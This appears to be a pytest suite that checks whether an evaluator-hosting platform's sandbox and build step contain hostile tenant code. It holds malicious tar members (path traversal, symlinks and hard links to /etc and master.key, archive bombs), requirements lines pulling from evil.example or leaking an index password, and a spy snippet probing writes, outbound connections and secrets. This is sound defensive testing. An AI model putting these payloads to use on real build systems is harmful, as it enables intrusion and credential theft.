"""Attacks on the platform and on other rows, each from a real evaluator in the real host and sandbox, between honest rows.

`attacks/evaluation.py` holds those that run where scoring runs; below are those on builds. Every attack must get nothing that it was after,
may cost its own row, and must leave every honest row its score. `make check-sandbox` runs the longer form and prints the table.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tarfile
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from tunesmith.cli.account import ensure_account_key
from tunesmith.db.api_keys import new_key
from tunesmith.db.session import open_database
from tunesmith.errors import InvalidArgument
from tunesmith.evaluators import protection, sandbox
from tunesmith.evaluators.build import BuildRequest, build
from tunesmith.evaluators.client import HostClient
from tunesmith.evaluators.environment import WHEELS
from tunesmith.evaluators.hosts import environment, start_host
from tunesmith.settings import Settings
from tunesmith.storage.keys import load_keys

from tests.evaluators.standin import make_wheel, pack

LONG = bool(os.environ.get("TUNESMITH_LONG_ATTACKS"))
ATTACKS = Path(__file__).parent / "attacks" / "evaluation.py"
HONEST = 40
SECONDS = 5
"""Longest scoring of a row here."""
ANY, NOTHING = "its own row at most", "nothing"
# What may come of the attack's own row: any end, a score of 0 ("got nothing"), or none with this in the reason.
EXPECTED: dict[str, str] = {
    "exit_now": "exit code 0",
    "sys_exit": "SystemExit",
    "patch_the_scorer": ANY,
    "patch_json": ANY,
    "patch_builtins": ANY,
    "close_the_loop": ANY,
    "close_descriptors": ANY,
    "write_garbage_to_the_host": "no answer for this row",
    "forge_the_result_of_another_row": ANY,
    "answer_without_end": "longer than the row",
    "answer_nested_deep": "no answer for this row",
    "flood_the_log": NOTHING,
    "steer_the_terminal": NOTHING,
    "leave_a_daemon": NOTHING,
    "fork_without_end": NOTHING,
    "take_all_memory": ANY,
    "fill_the_disk": NOTHING,
    "spin": "did not return within",
    "hang": "did not return within",
    "read_environments_of_others": NOTHING,
    "read_memory_of_others": NOTHING,
    "read_the_data_folder": NOTHING,
    "read_the_machine": NOTHING,
    "write_what_is_built": NOTHING,
    "link_out_of_tmp": NOTHING,
    "trace_the_host": NOTHING,
    "kill_everything": NOTHING,
    "steal_descriptors": NOTHING,
    "connect_to_the_machine": NOTHING,
    "connect_through_the_proxy": NOTHING,
    "connect_to_unix_sockets": NOTHING,
    "open_odd_sockets": NOTHING,
    "use_the_key_on_the_control_plane": NOTHING,
    "use_another_key": NOTHING,
    "read_rollouts_of_another_job": NOTHING,
    "make_namespaces": NOTHING,
    "mount_and_chroot": NOTHING,
    "call_the_kernel": NOTHING,
    "gain_rights": NOTHING,
    "raise_limits": NOTHING,
    "take_all_descriptors": NOTHING,
    "preload_into_what_comes_next": NOTHING,
    "read_undeclared_secrets": NOTHING,
    "rewrite_the_messages": NOTHING,
    "strange_text": ANY,
    "not_json": ANY,
    "score_nan": "not a finite number",
    "score_inf": "not a finite number",
    "score_huge": "",
    "score_negative": "must lie between 0 and 1",
    "score_text": "",
}
if LONG:
    EXPECTED["take_all_memory_by_many_processes"] = ANY
needs_sandbox = pytest.mark.skipif(
    protection.chosen("auto").kind is not protection.Kind.BUBBLEWRAP and not os.environ.get("CI"),  # in CI it must work
    reason=protection.describe("auto"),
)
Table = dict[str, str]


@pytest.fixture(scope="module")
def table() -> Iterator[Table]:
    """Attack -> outcome, printed at the end."""
    outcomes: Table = {}
    yield outcomes
    width = max(map(len, outcomes), default=0)
    print("\n" + "\n".join(f"{name:{width}}  {outcome}" for name, outcome in outcomes.items()))
    print(f"{len(outcomes)} attacks, {sum('ESCAPED' in outcome for outcome in outcomes.values())} escapes")


class Machine:
    """What an attacker would like to reach: a platform with keys, another tenant, an open port, sockets."""

    def __init__(self, folder: Path) -> None:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        self.settings = Settings(
            data_dir=folder / "data",
            port=port,
            evaluation_timeout_seconds=SECONDS,
            evaluator_memory_bytes=(2048 if LONG else 1024) << 20,
            evaluator_processes=400,
            build_timeout_seconds=300,
        )
        self.settings.data_dir.mkdir(mode=0o700)
        self.account_key = ensure_account_key(self.settings)
        self.keys = {job: self._key(job) for job in ("job", "other")}
        self.log = self.settings.path("logs", "web.log")
        output = self.log.open("ab")
        self.web = subprocess.Popen(
            [sys.executable, "-m", "tunesmith.server", "--data-dir", self.settings.data_dir, "--port", str(port)],
            stdout=output,
            stderr=subprocess.STDOUT,
        )
        output.close()
        self.open = socket.create_server(("0.0.0.0", 0))
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0tunesmith-{os.getpid()}")
        self.abstract.listen()
        self.tenant = self.settings.path("evaluators", "other", "theirs", "1", "src", "secret.py")
        self.tenant.write_text("SECRET = 1\n")

    def close(self) -> None:
        """End it."""
        self.web.terminate()
        self.web.wait()
        self.open.close()
        self.abstract.close()

    def ready(self) -> None:
        """Wait for the web process; then leave a line in the log of another job's rollout."""
        while self.web.poll() is None:
            try:
                with urllib.request.urlopen(f"{self.settings.base_url}/health", timeout=5):
                    break
            except OSError:
                continue
        assert self.web.poll() is None, self.log.read_text()
        line = {"message": "a line of the other job", "tags": ["rollout_id:other-r0-k0-a0"]}
        headers = {"Authorization": f"Bearer {self.keys['other']}", "Content-Type": "application/json"}
        url = f"{self.settings.base_url}/litellm-gateway/logs"
        urllib.request.urlopen(urllib.request.Request(url, json.dumps(line).encode(), headers)).close()

    def given(self, host_socket: Path) -> dict[str, Any]:
        """What the attacker knows."""
        return {
            "data_dir": str(self.settings.data_dir),
            "key_file": str(self.settings.path("keys", "master.key")),
            "database": str(self.settings.path("tunesmith.db")),
            "other_tenant": str(self.tenant),
            "profile": str(Path.home() / ".tunesmith"),
            "host_socket": str(host_socket),
            "open_port": self.open.getsockname()[1],
            "platform_port": self.settings.port,
            "address": socket.gethostbyname(socket.gethostname()),
            "abstract": f"tunesmith-{os.getpid()}",
            "other_rollout": "other-r0-k0-a0",
            "other_line": "a line of the other job",
            "account_key": self.account_key,
            "processes": self.settings.evaluator_processes,
            "memory_mib": self.settings.evaluator_memory_bytes >> 20,
            "flood_mib": 1024 if LONG else 48,
            "daemon_seconds": 86000 + os.getpid() / 1e6,
        }

    def _key(self, job: str) -> str:
        account, name = "accounts/local", f"accounts/local/reinforcementFineTuningJobs/{job}"
        sessions = open_database(self.settings.path("tunesmith.db"))
        with sessions.begin() as session:
            scope = {"kind": "rollout", "job": name, "budget": 1_000_000}
            _, key = new_key(session, account, scope, "rollout key", None, load_keys(self.settings).pepper)
        sessions.kw["bind"].dispose()
        return key


@pytest.fixture(scope="module")
def machine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Machine]:
    home = tmp_path_factory.mktemp("m")
    before = os.environ.get("HOME")
    os.environ["HOME"] = str(home)  # ensure_account_key looks for a profile there
    made = Machine(home)
    try:
        yield made
    finally:
        made.close()
        os.environ["HOME"] = before or "/root"


def digest_of(folder: Path) -> dict[str, tuple[int, int]]:
    return {str(path): (path.stat().st_size, path.stat().st_mtime_ns) for path in folder.rglob("*") if path.is_file()}


@needs_sandbox
async def test_no_attack_gets_out_and_every_honest_row_keeps_its_score(machine: Machine, table: Table):
    settings = machine.settings
    host_socket = settings.path("hosts", "job", "host.sock")
    given = machine.given(host_socket)
    files = {
        "requirements.txt": "eval-protocol\n",
        "tunesmith.toml": 'secrets = ["JUDGE_KEY"]\nnetwork = []\n',
        "evaluation.py": ATTACKS.read_text(),
        "given.json": json.dumps(given),
        "rows.jsonl": "",
    }
    account = settings.path("evaluators", "local", ".work").parent
    (account / ".work").mkdir(parents=True)
    secrets = {"JUDGE_KEY": "declared", "UNDECLARED_KEY": "not for it"}
    request = BuildRequest(
        pack(account / "upload.tar.gz", files),
        "evaluation.py::test_attacks",
        account / "attacks" / "1",
        account / ".work",
        settings.path("logs", "build.log"),
        secrets=secrets,
        wheels=WHEELS,
    )
    await build(request, settings)
    built = digest_of(request.target)
    await asyncio.to_thread(machine.ready)
    env = environment(
        request.target,
        platform_url=settings.base_url,
        gateway_url=settings.gateway_url,
        api_key=machine.keys["job"],
        secrets=secrets,
    )
    assert env["JUDGE_KEY"] == "declared"
    log = settings.path("logs", "host.log")
    host = await start_host(
        build_dir=request.target,
        entry_point=request.entry_point,
        socket=host_socket,
        env=env,
        settings=settings,
        log_path=log,
    )
    pids = {child.pid for child in psutil.Process(host.process.pid).children(recursive=True)}
    try:
        # An attack, then honest rows, and so on; all of them at once, as in a job.
        names = [name for attack in EXPECTED for name in (attack, "honest")] + ["honest"] * HONEST
        texts = [f"honest {index}" if name == "honest" else name for index, name in enumerate(names)]
        events = await run(host_socket, texts)
        assert host.process.running, "the host must outlive every attack"
        after = await run(host_socket, [f"honest {index}" for index in range(5)])
    finally:
        inside = {child.pid for child in psutil.Process(host.process.pid).children(recursive=True)} | pids
        await host.stop()

    problems: dict[str, str] = {}
    for index, text in enumerate(texts):
        event = events[index]
        assert event["rollout_id"] == f"job-r{index}-k0-a0"
        if text.startswith("honest"):
            if event["score"] != index / 1000:
                problems[text] = f"honest row lost: {event['reason']}"
            continue
        outcome = judge(text, event)
        table[text] = outcome
        if "ESCAPED" in outcome:
            problems[text] = outcome
        said = [message["content"] for message in event["row"]["messages"]]
        assert said == [text, "the answer"]
        assert event["row"]["execution_metadata"]["rollout_id"] == f"job-r{index}-k0-a0"
        json.dumps(event).encode()
    assert [after[index]["score"] for index in range(5)] == [index / 1000 for index in range(5)]
    assert not problems

    printed = log.read_bytes()
    assert len(printed) < 40 << 20
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", printed), "what steers a terminal stays out"
    assert b"red" in printed
    assert b"printed too fast" in printed
    assert b'network = ["1.1.1.1:443"]' in printed, "a refused host is named with the line to add"
    assert machine.account_key.encode() not in printed
    assert digest_of(request.target) == built, "what was built is as it was"
    assert machine.web.poll() is None
    assert not (settings.data_dir / "preloaded").exists()
    for pid in inside:
        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    assert not any(str(given["daemon_seconds"]) in " ".join(line) for line in command_lines())
    assert not Path("/tmp/filler").exists()


async def run(path: Path, texts: list[str]) -> dict[int, dict[str, Any]]:
    attempts = [
        {
            "row_index": index,
            "k": 0,
            "attempt": 0,
            "rollout_id": f"job-r{index}-k0-a0",
            "row": {"messages": [{"role": "user", "content": text}]},
        }
        for index, text in enumerate(texts)
    ]
    params = {"model": "m"}
    found = {}
    async for event in HostClient(path).run(
        attempts, invocation_id="attacks", completion_params=params, max_concurrent_rollouts=96
    ):
        found[event["row_index"]] = event
    return found


def judge(name: str, event: dict[str, Any]) -> str:
    """What came of an attack's own row, in a few words; with ESCAPED where it got what it was after."""
    expected, score, reason = EXPECTED[name], event["score"], event["reason"].replace("\n", " ")[:100]
    if expected == ANY:
        return f"contained: {f'score {score:g}' if score is not None else f'its row has no score: {reason}'}"
    if expected == NOTHING:
        return f"blocked: {reason}" if score in (0.0, None) else f"ESCAPED: {reason}"
    if score is not None or expected not in event["reason"]:
        return f"ESCAPED: score {score}, {reason}"
    return f"contained: its row has no score: {reason}"


def command_lines() -> list[list[str]]:
    found = []
    for process in psutil.process_iter():
        try:
            found.append(process.cmdline())
        except psutil.Error:
            continue
    return found


def member(name: str, **fields: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    for field, value in fields.items():
        setattr(info, field, value)
    return info, b"x" * info.size


ARCHIVES: dict[str, list[tuple[tarfile.TarInfo, bytes]]] = {
    "archive: path traversal": [member("project/../../evil.py", size=1)],
    "archive: absolute path": [member("/etc/cron.d/evil", size=1)],
    "archive: link out": [member("project/out", type=tarfile.SYMTYPE, linkname="../../..")],
    "archive: absolute link": [member("project/out", type=tarfile.SYMTYPE, linkname="/etc")],
    "archive: write through a link": [
        member("project/a", type=tarfile.SYMTYPE, linkname="b"),
        member("project/a/evil", size=1),
    ],
    "archive: hard link out": [member("project/out", type=tarfile.LNKTYPE, linkname="../../keys/master.key")],
    "archive: device": [member("project/disk", type=tarfile.BLKTYPE, devmajor=8)],
    "archive: named pipe": [member("project/pipe", type=tarfile.FIFOTYPE)],
    "archive: bomb of one file": [member("project/bomb", size=1200 << 20)] if LONG else [],
    "archive: bomb of many files": [member(f"project/{index}") for index in range(20_001)],
}
REQUIREMENTS = {
    "requirements: another index": "--index-url https://evil.example/simple\npydantic\n",
    "requirements: a further index": "--extra-index-url=https://evil.example/simple\n",
    "requirements: -i": "-ihttps://evil.example/simple\n",
    "requirements: find-links": "-f https://evil.example/wheels\n",
    "requirements: a repository": "evil @ git+https://evil.example/evil.git\n",
    "requirements: an address": "evil @ https://evil.example/evil-1-py3-none-any.whl\n",
    "requirements: install-time code": "./evil\n",
    "requirements: editable": "-e .\n",
    "requirements: a file outside": "-r ../../../keys/master.key\n",
    "requirements: a secret in an address": "evil @ https://evil.example/${UV_INDEX_PASSWORD}.whl\n",
    "requirements: continued line": "--index-\\\nurl https://evil.example\n",
}


@pytest.mark.parametrize("name", [name for name, members in ARCHIVES.items() if members])
async def test_an_archive_that_reaches_out_is_refused(
    name: str, request_for: Callable[..., BuildRequest], settings: Settings, tmp_path: Path, table: Table
):
    request = request_for({"requirements.txt": "", "evaluation.py": ""})
    with tarfile.open(request.archive, "w:gz") as tar:
        for info, content in ARCHIVES[name]:
            tar.addfile(info, io.BytesIO(content))
    settings.path("keys", "master.key").write_text("secret")
    before = digest_of(tmp_path)
    with pytest.raises(InvalidArgument) as caught:
        await build(request, settings)
    table[name] = f"refused: {caught.value.message[:100]}"
    del before[str(request.archive)]
    after = digest_of(tmp_path)
    assert {path for path in after if path not in before} <= {str(request.archive), str(request.log_path)}


@pytest.mark.parametrize("name", REQUIREMENTS)
async def test_a_requirement_from_elsewhere_is_refused_by_name(
    name: str, request_for: Callable[..., BuildRequest], settings: Settings, table: Table
):
    files = {
        "requirements.txt": f"# fine\n{REQUIREMENTS[name]}",
        "evaluation.py": "",
        "evil/setup.py": "raise SystemExit\n",
    }
    with pytest.raises(InvalidArgument) as caught:
        await build(request_for(files), settings)
    message = caught.value.message
    assert "requirements.txt" in message
    assert "Line 2" in message or "includes" in message
    table[name] = f"refused: {message[:100]}"


SPY = """
import os, pathlib, socket
found = []
for path in PLACES:
    try:
        pathlib.Path(path).write_text("changed")
        found.append(path)
    except OSError:
        pass
for address in [("127.0.0.1", PORT), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(address, timeout=2).close()
        found.append(str(address))
    except OSError:
        pass
found += [name for name in os.environ if name.startswith(("UV_", "UNDECLARED"))]
found += ["the cache"] if os.path.exists(CACHE) else []
if found:
    raise RuntimeError(f"got {found}")
def test_it(row): ...
"""


@needs_sandbox
async def test_code_that_runs_on_import_reaches_neither_index_nor_cache_nor_what_is_built(
    request_for: Callable[..., BuildRequest], settings: Settings, monkeypatch: pytest.MonkeyPatch, table: Table
):
    monkeypatch.setenv("UV_INDEX_INTERNAL_PASSWORD", "of the operator")
    request = request_for({}, secrets={"UNDECLARED": "secret"})
    folder = request.work / "demo-1"
    places = [folder / "src" / "evaluation.py", folder / "venv" / "lib" / "x.pth"]
    with socket.create_server(("127.0.0.1", 0)) as server:
        source = SPY.replace("PLACES", repr([str(path) for path in places])).replace(
            "PORT", str(server.getsockname()[1])
        )
        source = source.replace("CACHE", repr(str(request.work / "cache")))
        files = {"requirements.txt": "", "evaluation.py": source, "tunesmith.toml": "secrets = []\n"}
        pack(request.archive, files)
        await build(request, settings)
    assert [path.name for path in request.work.iterdir()] == ["cache"]
    table["build: code on import"] = "blocked: it wrote, reached and read nothing"


async def test_a_wheel_that_unpacks_beyond_the_limit_is_stopped(
    request_for: Callable[..., BuildRequest], settings: Settings, tmp_path: Path, table: Table
):
    settings = settings.model_copy(update={"max_environment_bytes": 64 << 20})
    wheel = make_wheel(tmp_path, "bomb", "1", {"bomb.bin": "0" * (65 << 20)})
    request = request_for({})
    with tarfile.open(request.archive, "w:gz") as tar:
        for name, content in {"requirements.txt": b"./bomb-1-py3-none-any.whl\n", "evaluation.py": b""}.items():
            info = tarfile.TarInfo(f"project/{name}")
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
        tar.add(wheel, f"project/{wheel.name}")
    with pytest.raises(InvalidArgument, match=r"grows beyond|larger than evaluators may hold"):
        await build(request, settings)
    table["build: huge wheel"] = "refused: the environment grows beyond what it may hold"
    assert not request.target.exists()


@needs_sandbox
def test_a_host_that_is_killed_takes_everything_with_it(tmp_path: Path, table: Table):
    mark = f"8{os.getpid()}.25"
    script = (
        f"import os, subprocess, time\nsubprocess.Popen(['sh', '-c', 'setsid sleep {mark} & exit'])\ntime.sleep(600)"
    )
    argv = sandbox.command(
        [os.path.realpath(sys.executable), "-I", "-c", script], policy="auto", read_only=[], writable=[]
    )
    process = subprocess.Popen(argv, env={"PATH": os.environ["PATH"]})

    def daemons() -> bool:
        return any(mark in line for line in command_lines() if len(line) == 2)

    while not daemons():
        assert process.poll() is None
    process.send_signal(signal.SIGKILL)
    process.wait()
    while daemons():
        pass
    table["a daemon when the guard is killed"] = "dies with it"
